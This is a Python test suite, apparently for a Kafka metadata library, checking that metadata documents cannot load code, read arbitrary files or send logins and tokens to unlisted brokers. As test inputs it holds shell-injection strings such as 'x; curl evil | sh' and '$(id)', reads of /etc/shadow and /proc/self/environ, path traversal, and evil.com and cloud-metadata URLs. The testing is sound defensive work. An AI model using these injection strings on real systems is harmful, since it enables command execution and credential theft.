"""What metadata may say: by default no code, no file, no variable, and nobody else's login."""

from __future__ import annotations

import ctypes
import os
import re
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dynamic_kafka import native
from dynamic_kafka.errors import ConfigurationError, InvalidOptionError, UnknownOptionError
from dynamic_kafka.kafka.config import secrets, tokens
from dynamic_kafka.kafka.config.documents import DocumentRules, cluster_properties, refused
from dynamic_kafka.kafka.config.property_names import ALL_NAMES, IN_DOCUMENTS
from dynamic_kafka.metadata.factory import document_rules
from dynamic_kafka.metadata.service import StreamListService
from dynamic_kafka.metadata.services import InMemoryMetadataService
from dynamic_kafka.options import parse_options
from dynamic_kafka.sink.configure import configure_sink
from dynamic_kafka.source.configure import SOURCE_OPTIONS, SourceObjects, configure_source

NONE = DocumentRules()
SERVERS = {"bootstrap.servers": "broker.example.com:9092"}
PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule required"
OAUTH = "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required;"
GOOGLE = {
    "security.protocol": "SASL_SSL",
    "sasl.mechanism": "OAUTHBEARER",
    "sasl.jaas.config": OAUTH,
    "sasl.login.callback.handler.class": "com.google.cloud.hosted.kafka.auth.GcpLoginCallbackHandler",
}
MSK = {
    "security.protocol": "SASL_SSL",
    "sasl.mechanism": "AWS_MSK_IAM",
    "sasl.jaas.config": "a.IAMLoginModule required;",
}
SASL = {"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN", "sasl.username": "me"}


def why_refused(own: Mapping[str, str], options: Mapping[str, str] | None = None, /, **rules: tuple[str, ...]) -> str:
    """The error of a cluster's own properties; "" if they are allowed."""
    try:
        cluster_properties({**SERVERS, **own}, options or {}, DocumentRules(**rules))
    except ConfigurationError as error:
        return str(error)
    return ""


# --- the table of properties ------------------------------------------------------------------------------------------

# Of CONFIGURATION.md of librdkafka 2.16: all properties whose value is code, a command, a file, a folder, or an address.
CODE = ("plugin.library.paths", "ssl.engine.location", "ssl.engine.id", "ssl.providers", "sasl.kerberos.kinit.cmd")
FILES = (
    *("ssl.key.location", "ssl.certificate.location", "ssl.ca.location", "ssl.crl.location", "ssl.keystore.location"),
    *("https.ca.location", "sasl.kerberos.keytab", "sasl.oauthbearer.assertion.private.key.file"),
    *("sasl.oauthbearer.assertion.file", "sasl.oauthbearer.assertion.jwt.template.file", "ssl.truststore.location"),
)
OTHER_CHOICES = (
    *(
        "offset.store.path",
        "debug",
        "log.queue",
        "internal.termination.signal",
        "topic.blacklist",
        "metadata.broker.list",
    ),
    *("sasl.oauthbearer.config", "sasl.oauthbearer.metadata.authentication.type", "transactional.id"),
    *("isolation.level", "check.crcs", "acks", "request.required.acks", "retries", "message.send.max.retries"),
    *(
        "max.in.flight",
        "max.in.flight.requests.per.connection",
        "enable.idempotence",
        "partitioner",
        "partitioner.class",
    ),
    *("allow.auto.create.topics", "enable.sasl.oauthbearer.unsecure.jwt", "ssl.ca.certificate.stores"),
    *("ssl.engine.factory.class", "sasl.login.class", "config.providers", "config.providers.env.class"),
)


@pytest.mark.parametrize("name", [*CODE, *OTHER_CHOICES])
def test_what_runs_code_or_writes_or_chooses_an_identity_is_not_for_documents(name: str) -> None:
    """The error names the property, and what to do."""
    assert name not in IN_DOCUMENTS
    assert f"'{name}' is not allowed in metadata; take it out" in why_refused({name: "/tmp/x.so"})


@pytest.mark.parametrize("name", sorted(ALL_NAMES))
def test_each_property_whose_name_says_code_a_file_or_an_address_has_the_rule_of_its_kind(name: str) -> None:
    """A property that librdkafka gets later is not allowed until somebody puts it in the table."""
    kind = IN_DOCUMENTS.get(name)
    if re.search(r"librar|plugin|engine|provider|\.cmd|\.path|command", name) and not name.startswith("security."):
        assert kind is None or name == "ssl.provider"
    if re.search(r"\.(location|file|keytab|path)$", name):
        assert kind in ("file", None)
    if name in FILES:
        assert kind == "file"
    if name.endswith("endpoint.url") and "jwks" not in name:  # Java's brokers use that one; nothing here does
        assert kind == "url"
    if secrets.is_secret(name) and not name.endswith("client.id") and kind is not None:
        assert kind == "secret"


def test_a_property_of_nobody_is_unknown_with_a_suggestion() -> None:
    """Also in another case, with blanks around it, or with look-alike letters."""
    for name in ("ssl.engine.Location", " plugin.library.paths", "sasl.passwоrd", "PLUGIN.LIBRARY.PATHS", "a.b"):
        with pytest.raises(UnknownOptionError, match="Unknown Kafka property"):
            cluster_properties({**SERVERS, name: "x"}, {}, NONE)


def test_the_query_allows_a_property_by_its_name_only() -> None:
    """A pattern allows nothing, and a property that is allowed may not hold a reference either."""
    assert why_refused({"debug": "broker"}, properties=("debug",)) == ""
    assert why_refused({"debug": "broker"}, properties=("*", "deb*"))
    assert "reference" in why_refused({"debug": "${env:HOME}"}, properties=("debug",), references=("env:*",))


# --- references and files ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "pattern", "allowed"),
    [
        ("${env:KAFKA_EU}", "env:KAFKA_*", True),
        ("${env:kafka_eu}", "env:KAFKA_*", False),
        ("${env:AWS_SECRET_ACCESS_KEY}", "env:KAFKA_*", False),
        ("${env:KAFKA_EU}${env:HOME}", "env:KAFKA_*", False),
        ("${file:/run/kafka/eu}", "env:*", False),
        ("${file:env:KAFKA_EU}", "env:KAFKA_*", False),
        ("${file:/run/kafka/eu}", "file:/run/kafka/*", True),
        ("${file:/run/kafka/eu}", "file:/run/kafka/eu", True),
        ("${file:/run/kafka/sub/eu}", "file:/run/kafka/*", True),
        ("${file:/run/kafka/eu}", "file:/run/*/eu", True),
        ("${file:/run/kafka/eu}", "file:/*", True),
        ("${file:/run/a:b/c:d}", "file:/run/a:b/*", True),
        ("${file:/run/kafka/../x}", "file:/run/kafka/*", False),
        ("${file:/run/kafka/../x}", "file:/run/kafka/../x", False),
        ("${file:/run/kafka/sub/../../x}", "file:/run/kafka/*", False),
        ("${file:/run/kafka//eu}", "file:/run/kafka/*", False),
        ("${file:/run/kafka/./eu}", "file:/run/kafka/*", False),
        ("${file:/run/kafkaesque}", "file:/run/kafka/*", False),
        ("${file:run/kafka/eu}", "file:run/kafka/*", False),
        ("${file:/run/kafka/${env:HOME}}", "file:/run/kafka/*", False),
        ("${file:/run/kafka/a\n}", "file:/run/kafka/*", False),
    ],
)
def test_references_are_those_of_the_patterns(value: str, pattern: str, allowed: bool) -> None:  # noqa: FBT001
    """Each one of a value, without `..`, without other spellings of a path, and not one within another."""
    assert (why_refused({"ssl.key.password": value}, references=(pattern,)) == "") is allowed
    assert why_refused({"ssl.key.password": value})


def test_a_link_does_not_lead_out_of_the_folder_of_a_pattern(tmp_path: Path) -> None:
    """A link within the folder is allowed, as Kubernetes mounts secrets, and one that the pattern names itself."""
    inside, outside = tmp_path / "secrets", tmp_path / "outside"
    (inside / "..data").mkdir(parents=True)
    (inside / "..data" / "eu").write_text("x")
    outside.write_text("y")
    (inside / "eu").symlink_to("..data/eu")
    (inside / "other").symlink_to(outside)
    (inside / "up").symlink_to(tmp_path)
    (tmp_path / "mounted").symlink_to(inside)
    allowed = {"references": (f"file:{tmp_path}/secrets/*", f"file:{tmp_path}/mounted/*")}
    for name in ("secrets/eu", "mounted/eu"):
        assert why_refused({"sasl.password": f"${{file:{tmp_path}/{name}}}"}, **allowed) == ""
        assert why_refused({"ssl.ca.location": f"{tmp_path}/{name}"}, **allowed) == ""
    for name in ("secrets/other", "secrets/up/outside", "mounted/other"):
        assert why_refused({"sasl.password": f"${{file:{tmp_path}/{name}}}"}, **allowed)
    exact = (f"file:{tmp_path}/secrets/other",)
    assert why_refused({"sasl.password": f"${{file:{tmp_path}/secrets/other}}"}, references=exact) == ""


@pytest.mark.parametrize("name", sorted(n for n, kind in IN_DOCUMENTS.items() if kind != "secret"))
def test_a_reference_is_only_for_secrets_and_certificates(name: str) -> None:
    """Whatever the query allows: brokers, logs and errors see the other properties."""
    own = {name: "${env:KAFKA_EU}"}
    assert "neither a secret nor a certificate" in why_refused(own, references=("env:*", "file:*"), token_urls=("*",))


@pytest.mark.parametrize("name", FILES)
def test_a_path_has_the_rule_of_references(name: str) -> None:
    """The error names the option that would allow it."""
    assert "metadata-service.allowed-references=file:/etc/kafka/x" in why_refused({name: "/etc/kafka/x"})
    assert why_refused({name: "/etc/kafka/x"}, references=("file:/etc/kafka/*",)) == ""
    assert why_refused({name: "/etc/kafka/../x"}, references=("file:/etc/kafka/*",))
    assert why_refused({name: "probe"}) == "" or not name.endswith("ca.location")


@pytest.mark.parametrize(
    "jaas",
    [
        f'{PLAIN} username="me" password="${{env:HOME}}";',
        f'{PLAIN} username="${{env:KAFKA_A}}" password="\\44{{env:HOME}}";',
        f'{PLAIN} username="${{env:KAFKA_A}}" password="$\\{{env:HOME}}";',
        'Krb5LoginModule required keyTab="/etc/shadow" principal="me";',
        'Krb5LoginModule required keyTab="/run/kafka/\\56\\56/x" principal="me";',
        'Krb5LoginModule required keyTab="/run/kafka/x" principal="$(touch /tmp/x)";',
        'Krb5LoginModule required keyTab="/run/kafka/$(id)" principal="me";',
        'Krb5LoginModule required keyTab="/run/kafka/x" serviceName="a; id";',
    ],
)
def test_the_escapes_of_jaas_hide_nothing(jaas: str) -> None:
    """What counts is the text that the login would use."""
    assert why_refused({"sasl.jaas.config": jaas}, references=("env:KAFKA_*", "file:/run/kafka/*"))


@pytest.mark.parametrize("text", ["x; curl evil | sh", "$(id)", "`id`", "a\nb", "a b", "%{sasl.password}", 'a"b', "é"])
def test_kerberos_names_are_safe_in_a_shell(text: str) -> None:
    """Librdkafka puts them into the command of kinit."""
    for name in ("sasl.kerberos.principal", "sasl.kerberos.service.name"):
        assert "shell" in why_refused({name: text})
        assert why_refused({name: "kafka/host-1.example.com@EXAMPLE.COM"}) == ""
    assert why_refused({"sasl.kerberos.keytab": f"/run/kafka/{text}"}, references=("file:/run/kafka/*",))


# --- token endpoints --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://login.example.com/eu/token", True),
        ("https://login.example.com:443/eu/token", True),
        ("https://login.example.com/eu/token?v=2", True),
        ("http://login.example.com/eu/token", False),
        ("https://login.example.com:8443/eu/token", False),
        ("https://login.example.com/admin", False),
        ("https://login.example.com/eu/../admin", False),
        ("https://login.example.com/eu/%2e%2e/admin", False),
        ("https://login.example.com/eu/\\..\\admin", False),
        ("https://login.example.com.evil.com/eu/token", False),
        ("https://evil.com/https://login.example.com/eu/token", False),
        ("https://login.example.com@evil.com/eu/token", False),
        ("https://evil.com#login.example.com/eu/token", False),
        ("https://evil.com?login.example.com/eu/token", False),
        ("https://login.example.com\t.evil.com/eu/token", False),
        ("https://169.254.169.254/eu/token", False),
        ("file:///eu/token", False),
        ("", False),
    ],
)
def test_token_endpoints_are_those_of_the_patterns(url: str, allowed: bool) -> None:  # noqa: FBT001
    """By default there is none. Scheme, host, port and path are compared each for itself."""
    own = {"sasl.oauthbearer.token.endpoint.url": url}
    assert (why_refused(own, token_urls=("https://login.example.com/eu/*",)) == "") is allowed
    assert "metadata-service.allowed-token-urls" in why_refused(own)


def test_a_pattern_for_hosts_does_not_match_a_path() -> None:
    """`*` in the host stays in the host."""
    own = {"sasl.oauthbearer.token.endpoint.url": "https://evil.com/x.example.com/token"}
    assert why_refused(own, token_urls=("https://*.example.com/*",))


@pytest.mark.parametrize("end", ["", "/"])
def test_a_url_without_a_path_means_the_root(end: str) -> None:
    """In the document and in the pattern."""
    for url, pattern in ((f"https://a.b{end}", "https://a.b"), ("https://a.b", f"https://a.b{end}")):
        assert why_refused({"sasl.oauthbearer.token.endpoint.url": url}, token_urls=(pattern,)) == ""


# --- logins -----------------------------------------------------------------------------------------------------------

LENT = {**SASL, "sasl.password": "${env:KAFKA_PASSWORD}"}


@pytest.mark.parametrize(
    ("servers", "allowed"),
    [
        ("a.kafka.example.com:9093", True),
        ("A.Kafka.Example.COM:9093", True),
        ("a.kafka.example.com:9093,b.kafka.example.com:9093", True),
        ("a.kafka.example.com:9094", False),
        ("a.kafka.example.com", False),
        ("a.kafka.example.com:9093,evil.com:9093", False),
        ("evil.com:9093 , a.kafka.example.com:9093", False),
        ("a.kafka.example.com.evil.com:9093", False),
        ("a.kafka.example.com:9093@evil.com:9093", False),
        ("evil.com/.kafka.example.com:9093", False),
        ("evil.com\x00.kafka.example.com:9093", False),
        ("SASL_PLAINTEXT://a.kafka.example.com:9093", False),
    ],
)
def test_the_login_of_the_options_goes_to_listed_brokers(servers: str, allowed: bool) -> None:  # noqa: FBT001
    """To each of the addresses, in any spelling, or to none."""
    own = {"bootstrap.servers": servers}
    assert (why_refused(own, LENT, servers=("*.kafka.example.com:9093",)) == "") is allowed
    assert why_refused(own, LENT)
    assert (why_refused({**own, "sasl.password": "its own"}, LENT) == "") is ("://" not in servers)


@pytest.mark.parametrize(("listed", "allowed"), [("[fe80::1]", True), ("[FE80::1]:9092", True), ("[fe80::2]", False)])
def test_an_ipv6_address_is_listed_as_it_is(listed: str, allowed: bool) -> None:  # noqa: FBT001
    """Its brackets are no pattern."""
    assert (why_refused({"bootstrap.servers": "[FE80::1]"}, LENT, servers=(listed,)) == "") is allowed


@pytest.mark.parametrize(
    ("given", "lent"),
    [
        ({}, False),
        ({"sasl.mechanism": "gssapi"}, False),
        ({"sasl.mechanisms": "GSSAPI"}, False),
        ({"sasl.mechanisms": "PLAIN"}, True),
        ({"sasl.mechanism": "PLAIN", "sasl.mechanisms": "GSSAPI"}, True),
        ({"sasl.mechanism": "PLAIN", "security.protocol": "${env:PROTOCOL}"}, True),
        ({"sasl.mechanism": "PLAIN", "security.protocol": "SSL"}, False),
    ],
)
def test_a_login_is_lent_if_the_mechanism_sends_it(given: dict[str, str], lent: bool) -> None:  # noqa: FBT001
    """Kerberos, which is the default, sends none; a protocol that is not known yet may be one with a login."""
    options = {"security.protocol": "SASL_SSL", "sasl.password": "x", **given}
    assert ("allowed-servers" in why_refused({}, options)) is lent


@pytest.mark.parametrize(
    "own",
    [
        {"security.protocol": "SASL_PLAINTEXT"},
        {"enable.ssl.certificate.verification": "false"},
        {"ssl.endpoint.identification.algorithm": ""},
        {"ssl.ca.pem": "-----BEGIN"},
        {"sasl.mechanism": "OAUTHBEARER"},
        {"sasl.username": "other"},
        {"ssl.cipher.suites": "NULL"},
        {"client.dns.lookup": "resolve_canonical_bootstrap_servers_only"},
    ],
)
def test_a_document_does_not_change_how_the_login_of_the_options_travels(own: dict[str, str]) -> None:
    """Not even to brokers that are listed. The same value as that of the options is no change."""
    assert "travels" in why_refused(own, LENT, servers=("*",))
    assert why_refused({"security.protocol": "SASL_SSL"}, LENT, servers=("*",)) == ""


@pytest.mark.parametrize("mechanism", ["PLAIN", "SCRAM-SHA-512", "OAUTHBEARER"])
@pytest.mark.parametrize(
    "lent",
    [
        {"sasl.jaas.config": f'{PLAIN} username="me" password="x";'},
        {"sasl.jaas.config": "${env:JAAS}"},
        {"sasl.oauthbearer.client.secret": "x"},
        {"sasl.oauthbearer.metadata.authentication.type": "azure_imds"},
        {"sasl.oauthbearer.assertion.private.key.file": "/run/key.pem"},
    ],
)
def test_each_kind_of_login_of_the_options_is_guarded(mechanism: str, lent: dict[str, str]) -> None:
    """By the protocol that the options give, or that the document gives."""
    for protocol in ("SASL_SSL", "SASL_PLAINTEXT", "sasl_ssl"):
        given = {"sasl.mechanism": mechanism, **lent}
        assert "allowed-servers" in why_refused({}, {"security.protocol": protocol, **given})
        assert why_refused({"security.protocol": protocol}, given)


GOOD = {
    "Google": (GOOGLE, "bootstrap.c.europe-west1.managedkafka.project.cloud.goog:9092"),
    "AWS": (MSK, "b-1.demo.abc.c2.kafka.eu-west-1.amazonaws.com:9098"),
}


@pytest.mark.parametrize("cloud", GOOD)
@pytest.mark.parametrize("by_document", [True, False])
def test_a_cloud_token_goes_to_brokers_of_that_cloud(cloud: str, by_document: bool) -> None:  # noqa: FBT001
    """Whoever names the login. The query may list others. Certificates of the document decide nothing."""
    login, broker = GOOD[cloud]
    own, options = (login, {}) if by_document else ({}, login)
    assert why_refused({**own, "bootstrap.servers": broker}, options) == ""
    host = broker.partition(":")[0]
    for wrong in (
        "127.0.0.1:9092",
        f"{host}.evil.com:9092",
        f"x{host.partition('.')[2]}.evil:1",
        f"{broker},evil.com:9092",
        f"{broker}@evil.com:9092",
    ):
        assert "is not a broker of" in why_refused({**own, "bootstrap.servers": wrong}, options)
    listed = {**own, "bootstrap.servers": "psc.corp.example.com:9092"}
    assert why_refused(listed, options, servers=("*.corp.example.com",)) == ""
    for name in ("ssl.ca.pem", "ssl.truststore.certificates", "client.dns.lookup"):
        assert "who may take a token" in why_refused({**own, "bootstrap.servers": broker, name: "x"}, options)
        assert why_refused({**own, "bootstrap.servers": broker, name: "x"}, {**options, name: "x"}) == ""


def test_a_function_that_makes_tokens_is_named_by_the_query_alone() -> None:
    """It would be run; and its tokens are a login of the query's options, which goes to listed brokers only."""
    for name in ("sasl.login.callback.handler.class", "sasl.client.callback.handler.class"):
        assert "names a function in Python" in why_refused({name: "os:abort"}, {}, properties=(name,))
    given = {"sasl.mechanism": "OAUTHBEARER", "sasl.login.callback.handler.class": "my_tokens:make"}
    given["security.protocol"] = "SASL_SSL"
    own = {"bootstrap.servers": "evil.example.com:9093"}
    assert "(sasl.login.callback.handler.class) would go to evil.example.com:9093" in why_refused(own, given)
    assert why_refused(own, given, servers=("evil.example.com",)) == ""
    assert "would change how the login" in why_refused(
        own | {"security.protocol": "SASL_PLAINTEXT"}, given, servers=("evil.example.com",)
    )


def test_a_login_behind_a_reference_may_be_a_clouds() -> None:
    """With a mechanism of tokens, the text of the login has to be seen, or the brokers listed."""
    own = {"security.protocol": "SASL_SSL", "sasl.mechanism": "OAUTHBEARER", "sasl.jaas.config": "${env:KAFKA_JAAS}"}
    allowed = {"references": ("env:KAFKA_*",)}
    assert "a cloud" in why_refused(own, **allowed)
    assert why_refused(own, **allowed, servers=("broker.example.com",)) == ""
    assert why_refused(own | {"sasl.mechanism": "SCRAM-SHA-512"}, **allowed) == ""


@pytest.mark.parametrize(
    "wrong",
    [
        {"security.protocol": "SASL_PLAINTEXT"},
        {"enable.ssl.certificate.verification": "false"},
        {"ssl.endpoint.identification.algorithm": ""},
        {"ssl.endpoint.identification.algorithm": "none"},
        {"bootstrap.servers": "SASL_PLAINTEXT://b-1.demo.abc.c2.kafka.eu-west-1.amazonaws.com:9098"},
    ],
)
@pytest.mark.parametrize("cloud", GOOD)
def test_a_cloud_token_goes_by_verified_tls_only(cloud: str, wrong: dict[str, str]) -> None:
    """Also if the options of the query say it: a typing error must not send the token in clear text."""
    login, broker = GOOD[cloud]
    with pytest.raises(ConfigurationError, match=r"goes only to brokers with a verified certificate, and "):
        tokens.token_source({**login, "bootstrap.servers": broker, **wrong})


# --- any document -----------------------------------------------------------------------------------------------------

TEXTS = st.sampled_from(
    [
        *(
            "${env:SECRET}",
            "${file:/etc/hostname}",
            "x${env:SECRET}y",
            "${env:KAFKA_OK}",
            "${env:KAFKA_OK}${env:SECRET}",
        ),
        *(
            "${env:${env:SECRET}}",
            "${file:/run/kafka/../../etc/hostname}",
            "${file:/proc/self/environ}",
            "${ENV:SECRET}",
        ),
        *(
            "/etc/hostname",
            "/dev/zero",
            "SASL_SSL",
            "SASL_PLAINTEXT",
            "sasl_ssl",
            "OAUTHBEARER",
            "PLAIN",
            "AWS_MSK_IAM",
        ),
        *(
            "a.GcpLoginCallbackHandler",
            "a.IAMLoginModule required;",
            "a.IAMLoginModule required awsRoleArn='x';",
            OAUTH,
        ),
        *(
            f'{PLAIN} username="u" password="{p}";'
            for p in ("${env:SECRET}", "\\44{env:SECRET}", "p", "${env:KAFKA_OK}")
        ),
        *(f'{PLAIN} username="${{env:KAFKA_OK}}" password="{p}";' for p in ("\\44{env:SECRET}", "$\\{env:SECRET}")),
        *("http://169.254.169.254/x", "https://login.example.com/token", "none", "false", "true", "oidc", "azure_imds"),
        *("evil.com:9092", "SASL_PLAINTEXT://evil.com:9092", "a.kafka.example.com:9092,evil.com:1", "1"),
    ]
)
LOGIN = [
    "sasl.jaas.config",
    "sasl.password",
    "sasl.mechanism",
    "security.protocol",
    "bootstrap.servers",
    "ssl.ca.location",
]
LOGIN += ["sasl.login.callback.handler.class", "ssl.endpoint.identification.algorithm", "ssl.ca.pem", "sasl.username"]
NAMES = st.one_of(
    *[st.sampled_from(LOGIN)] * 12, st.sampled_from(sorted(ALL_NAMES)), st.sampled_from(["Ssl.ca.pem", "х"])
)
ALLOWED = DocumentRules(references=("env:KAFKA_*", "file:/run/kafka/*"), servers=("*.kafka.example.com",))
OPTIONS = st.sampled_from([{}, LENT, {**LENT, "sasl.password": "p"}, GOOGLE, MSK, {"sasl.jaas.config": "${env:JAAS}"}])


@pytest.mark.parametrize("rules", [NONE, ALLOWED])
@given(own=st.dictionaries(NAMES, st.one_of(TEXTS, st.text(max_size=12)), max_size=6), options=OPTIONS)
@example(own={"sasl.jaas.config": f'{PLAIN} username="${{env:KAFKA_OK}}" password="\\44{{env:SECRET}}";'}, options={})
@example(own={**SASL, "bootstrap.servers": "evil.com:1"}, options=GOOGLE)
@example(own={"bootstrap.servers": ""}, options=GOOGLE)
@example(own={"bootstrap.servers": ","}, options=LENT)
def test_whatever_a_document_says_stays_within_what_the_query_allows(
    rules: DocumentRules, own: dict[str, str], options: dict[str, str]
) -> None:
    """What is let through looks up only what is listed, reads only what is listed, and gives no login or token to others."""
    own = {**SERVERS, **own}
    looked_up: list[str] = []

    def look_up(_key: str, reference: re.Match[str]) -> str:
        looked_up.append(reference.group())
        return "value"

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(secrets, "_look_up", look_up)
        patch.setattr("dynamic_kafka.kafka.config.small_files.os.open", _no_file)
        try:
            merged = cluster_properties(own, options, rules)
        except ConfigurationError:
            assert not looked_up
            return
        secrets.resolve(own)
    assert merged == {**options, **own}
    assert own.keys() <= IN_DOCUMENTS.keys()
    for reference in looked_up:
        assert rules is ALLOWED
        assert reference.startswith(("${env:KAFKA_", "${file:/run/kafka/"))
        assert ".." not in reference
    for name, value in own.items():
        if IN_DOCUMENTS[name] == "file" and value != "probe":
            assert rules is ALLOWED
            assert value.startswith("/run/kafka/")
            assert ".." not in value
        assert IN_DOCUMENTS[name] != "url"  # none is allowed here
        assert IN_DOCUMENTS[name] == "secret" or "${env:" not in value
    _check_receivers(merged, own, options, rules)


def _no_file(*_arguments: Any) -> int:
    raise AssertionError("a file was opened")


def _check_receivers(
    merged: Mapping[str, str], own: Mapping[str, str], options: Mapping[str, str], rules: DocumentRules
) -> None:
    """Assert, in other words than the rules have, that secrets of the options and cloud tokens have the right receivers."""
    servers = [server.strip() for server in merged["bootstrap.servers"].split(",") if server.strip()]
    if not servers:
        return  # nobody receives anything, and `MetadataSnapshot` refuses it
    mine = all(re.fullmatch(r"[a-z.]+\.kafka\.example\.com(:\d+)?", server.lower()) for server in servers)
    if "SASL" not in merged.get("security.protocol", "").upper() or "GSSAPI" in merged.get("sasl.mechanism", "GSSAPI"):
        return
    for name in ("sasl.password", "sasl.jaas.config"):
        if name in options and name not in own and "required;" not in options[name]:
            assert mine
            assert rules is ALLOWED
            assert all(options.get(key) == own[key] for key in own if key.startswith(("sasl.", "ssl.", "security.")))
    try:
        source = tokens.token_source({key: value for key, value in merged.items() if "${" not in value})
    except ConfigurationError:
        return
    if source is not None:
        assert merged["security.protocol"].upper() == "SASL_SSL"
        assert mine or all(re.search(r"\.(amazonaws\.com|cloud\.goog)(:\d+)?$", server) for server in servers)


# --- who is trusted ---------------------------------------------------------------------------------------------------


class OwnService(StreamListService):
    """A service of the user."""

    def get_all_streams(self) -> list[Any]:
        """Return none."""
        return []


def rules_of(options: dict[str, str], given: Any = None) -> DocumentRules | None:
    """The rules of a source with these options."""
    return document_rules(parse_options(options, SOURCE_OPTIONS), given)


def test_metadata_of_the_query_itself_has_no_rules() -> None:
    """Its options, and streams in the program. Files, URLs and own classes have rules, and so do classes that inherit."""
    assert rules_of({"metadata-service": "single-cluster"}) is None
    assert rules_of({"subscribe": "t"}) is None
    assert rules_of({}, InMemoryMetadataService()) is None
    assert rules_of({"metadata-service": "file"}) == NONE
    assert rules_of({"metadata-service": "http"}) == NONE
    assert rules_of({"metadata-service": "a.b:C"}) == NONE
    assert rules_of({}, OwnService()) == NONE
    assert rules_of({}, type("Sub", (InMemoryMetadataService,), {})()) == NONE


def test_the_options_are_lists() -> None:
    """They are not passed on to a class of the user, and belong to no single cluster."""
    options = {
        "metadata-service": "file",
        "metadata-service.path": "/x",
        "Metadata-Service.Allowed-References": "file:/run/kafka/*; env:KAFKA_*",
        "metadata-service.allowed-servers": "*.example.com",
        "stream-ids": "s",
    }
    found = configure_source(options).document_rules
    assert found == DocumentRules(references=("file:/run/kafka/*", "env:KAFKA_*"), servers=("*.example.com",))
    assert configure_sink(options).document_rules == found
    with pytest.raises(InvalidOptionError, match="allowed-servers"):
        rules_of({"metadata-service": "file", "metadata-service.allowed-servers": ";"})
    with pytest.raises(ConfigurationError, match="allowed-servers"):
        configure_source({"subscribe": "t", "kafka.bootstrap.servers": "a:1", "metadata-service.allowed-servers": "*"})


def test_settings_apply_the_rules_also_to_what_a_checkpoint_has() -> None:
    """The one place that puts a cluster's properties together has them, so an owner who allows less is obeyed at once."""
    options = {"metadata-service": "file", "metadata-service.path": "/x", "stream-ids": "s"}
    source = configure_source(options, SourceObjects())
    with pytest.raises(ConfigurationError, match="does not allow"):
        source.cluster_properties({**SERVERS, "sasl.password": "${env:X}"})
    with pytest.raises(ConfigurationError, match=r"^Cluster 'eu': .*does not allow"):
        configure_sink(options).cluster_properties("eu", {**SERVERS, "sasl.password": "${env:X}"})


def test_nothing_is_opened_to_find_what_is_refused(tmp_path: Path) -> None:
    """A pipe in the place of a file would be waited for."""
    os.mkfifo(tmp_path / "pipe")
    own = {**SERVERS, "ssl.ca.location": f"{tmp_path}/pipe", "sasl.password": f"${{file:{tmp_path}/pipe}}"}
    assert len(list(refused(own, {}, NONE))) == 2
    assert list(refused(own, {}, DocumentRules(references=(f"file:{tmp_path}/*",)))) == []


# --- large texts ------------------------------------------------------------------------------------------------------

PIECES = ["${env:", "${file:", "://", "/*", '"', "\\", "managedkafka.", "kafka.", "-----BEGIN A-----", "/../", "*"]


@pytest.mark.parametrize("piece", PIECES)
def test_a_large_text_is_judged_in_a_time_that_grows_with_its_length(piece: str) -> None:
    """As each kind of property, as a name, and in what is shown and stored. One pattern that goes back takes minutes."""
    text = piece * (2**17 // len(piece))
    rules = {"references": ("env:K*", "file:/run/*a*b"), "token_urls": ("https://*.a/*b*c",), "servers": ("*.a*b:1",)}
    began = time.thread_time()
    for name in ("client.id", "sasl.password", "ssl.ca.location", "sasl.oauthbearer.token.endpoint.url", text):
        why_refused({name: text}, **rules)
    for jaas in (text, f"a.IAMLoginModule required a='{text}", f"a.IAMLoginModule required awsRoleArn={text}"):
        why_refused({**MSK, "sasl.jaas.config": jaas}, **rules)
    why_refused({**GOOGLE, "bootstrap.servers": f"a.{text}"}, **rules)
    secrets.redact({"client.id": text})
    secrets.storable({"client.id": text, "sasl.jaas.config": text})
    assert time.thread_time() - began < 5


def test_a_broker_of_aws_has_the_name_of_a_region() -> None:
    """Other services let their users choose names under the same domain."""
    for host in (
        "b-1.demo.kafka.s3.amazonaws.com",
        "x.kafka.evil.amazonaws.com",
        "b.kafka.eu-west-1.amazonaws.com.evil.com",
    ):
        assert "is not a broker of AWS" in why_refused({**MSK, "bootstrap.servers": f"{host}:9098"})
    for region in ("us-gov-west-1", "cn-north-1", "ap-southeast-3"):
        host = f"b-1.demo.abc.c2.kafka.{region}.amazonaws.com"
        assert why_refused({**MSK, "bootstrap.servers": f"{host}:9098"}) == ""


# --- advice -----------------------------------------------------------------------------------------------------------

ODD = st.sampled_from(
    [
        *(
            "env:*",
            "env:A;file:/*",
            "env:[A-Z]",
            "env:",
            "env:A B",
            "file:/a//b",
            "file:/a/../b",
            "file:/*",
            "file:/a;b",
        ),
        *("env:A", "file:/a/b", "file:/a/./b"),
    ]
).map("${{{}}}".format)
ODD_SERVERS = st.sampled_from(
    [
        "*:9092",
        "*",
        "[::1]:9092",
        "[::1]",
        "a;*:1",
        "me:geheim@a:1",
        "a:1",
        "A.b",
        "a:99999",
        "[*]:1",
        "?:1",
        "SSL://a:1",
    ]
)
ODD_URLS = st.sampled_from(
    ["https://*/x", "https://a/*", "https://a?b", "https://a/?b=c", "https://a/..", "https://a;b/c", "https://a:1/b"]
)


@given(reference=ODD, servers=st.lists(ODD_SERVERS, min_size=1, max_size=2), url=ODD_URLS, lent=st.booleans())
def test_what_an_error_says_to_allow_allows_that_and_nothing_more(
    reference: str,
    servers: list[str],
    url: str,
    lent: bool,  # noqa: FBT001
) -> None:
    """An author of metadata may choose names that look like a pattern or a list, so that the query's owner allows more."""
    cases: list[tuple[dict[str, str], Mapping[str, str]]] = [
        ({"sasl.password": reference}, {}),
        ({"sasl.oauthbearer.token.endpoint.url": url}, {}),
        ({"bootstrap.servers": ",".join(servers)}, LENT if lent else GOOGLE),
    ]
    other = {"sasl.password": "${env:OTHER}", "sasl.oauthbearer.token.endpoint.url": "https://other/x"}
    for own, options in cases:
        for fault in refused({**SERVERS, **own}, options, NONE):
            assert "geheim" not in f"{fault.what} {fault.remedy} {fault.option}"
            name, _, value = fault.option.removeprefix("metadata-service.allowed-").partition("=")
            if not value or value == "https://host/path":
                continue
            allowed = DocumentRules(**{name.replace("-", "_"): tuple(value.split(";"))})
            assert fault not in refused({**SERVERS, **own}, options, allowed)
            assert len(list(refused({**SERVERS, **other}, {}, allowed))) == 2
            assert list(refused({"bootstrap.servers": "other.example.com:9092"}, LENT, allowed))


